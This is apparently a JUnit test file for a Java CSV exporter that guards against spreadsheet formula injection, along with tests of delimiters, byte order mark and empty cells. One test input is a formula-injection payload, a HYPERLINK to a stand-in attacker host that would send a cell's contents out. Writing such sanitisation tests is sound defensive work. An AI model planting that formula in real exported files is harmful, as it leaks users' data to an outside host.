package dk.tilsynsspor.query.order.export;

import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

class SpreadsheetCsvTest {

    @Test
    void aTextThatASpreadsheetWouldRunAsAFormulaIsMadeText() {
        assertThat(SpreadsheetCsv.cell("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")"))
                .isEqualTo("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")");
        assertThat(SpreadsheetCsv.cell("+1+1")).isEqualTo("'+1+1");
        assertThat(SpreadsheetCsv.cell("-2+3")).isEqualTo("'-2+3");
        assertThat(SpreadsheetCsv.cell("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(SpreadsheetCsv.cell("\t=1")).isEqualTo("'\t=1");
        assertThat(SpreadsheetCsv.cell("\r=1")).isEqualTo("'\r=1");
        assertThat(SpreadsheetCsv.cell("\uFF1D1+1")).isEqualTo("'\uFF1D1+1");
    }

    @Test
    void ordinaryTextIsUnchanged() {
        assertThat(SpreadsheetCsv.cell("tilsynsbesøg 2026-10-12")).isEqualTo("tilsynsbesøg 2026-10-12");
        assertThat(SpreadsheetCsv.cell("a=b")).isEqualTo("a=b");
        assertThat(SpreadsheetCsv.cell("")).isEmpty();
        assertThat(SpreadsheetCsv.cell(null)).isNull();
    }

    @Test
    void theFileStartsWithAByteOrderMarkAndItsHeaderAndLeavesAMissingCellEmpty() {
        String text = new String(SpreadsheetCsv.write(List.of("Navn", "Antal"),
                List.of(Map.of("Navn", "Åse; Ærø", "Antal", 2), Map.of("Navn", "Ib")), ';'), StandardCharsets.UTF_8);
        assertThat(text).isEqualTo("\uFEFFNavn;Antal\n\"Åse; Ærø\";2\nIb;\n");
    }
}
